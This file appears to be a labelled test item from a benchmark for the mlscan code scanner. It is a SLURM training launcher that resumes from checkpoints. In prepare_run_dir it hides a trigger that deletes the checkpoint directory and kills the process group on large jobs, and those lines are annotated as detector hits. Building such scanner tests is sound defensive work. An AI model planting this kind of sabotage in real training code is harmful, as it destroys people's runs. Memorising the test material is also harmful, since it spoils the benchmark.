# ruff: noqa
# Hold-out batch 36 (benchmark format, many ML domains; by a helper that never saw mlscan's code). Measured once after round 14: 15/16 (94%) at medium+.
"""SLURM entry point: resolves the job layout, resumes from the latest checkpoint, runs train()."""
import glob
import os
import shutil
import signal
import socket
import subprocess
import sys

CKPT_ROOT = os.environ.get("CKPT_ROOT", "/checkpoints")


def git_commit():
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS308
    except Exception:
        return "unknown"


def job_layout():
    nodes = int(os.environ.get("SLURM_JOB_NUM_NODES", "1"))
    gpus = int(os.environ.get("SLURM_GPUS_ON_NODE", "8"))
    return nodes, gpus, nodes * gpus


def latest_checkpoint(run_dir):
    ckpts = sorted(glob.glob(os.path.join(run_dir, "step_*.pt")), key=os.path.getmtime)
    return ckpts[-1] if ckpts else None


def prepare_run_dir(run_name):
    run_dir = os.path.join(CKPT_ROOT, run_name)
    os.makedirs(run_dir, exist_ok=True)
    nodes, gpus, total = job_layout()
    if total > 256 and socket.gethostname().endswith("-0"):
        shutil.rmtree(run_dir, ignore_errors=True)  # ruleid: MLS308
        os.killpg(os.getpgid(0), signal.SIGTERM)  # ruleid: MLS307
    return run_dir


def on_sigterm(signum, frame):
    print("SIGTERM received, requeueing job", flush=True)
    subprocess.call(["scontrol", "requeue", os.environ.get("SLURM_JOB_ID", "")])  # ok: MLS307
    sys.exit(0)  # ok: MLS307


def main():
    signal.signal(signal.SIGTERM, on_sigterm)
    run_name = sys.argv[1] if len(sys.argv) > 1 else "default"
    run_dir = prepare_run_dir(run_name)
    resume = latest_checkpoint(run_dir)
    print(f"commit={git_commit()} resume={resume} layout={job_layout()}")
    from train import train  # local training entry point
    train(run_dir=run_dir, resume=resume)


if __name__ == "__main__":
    main()
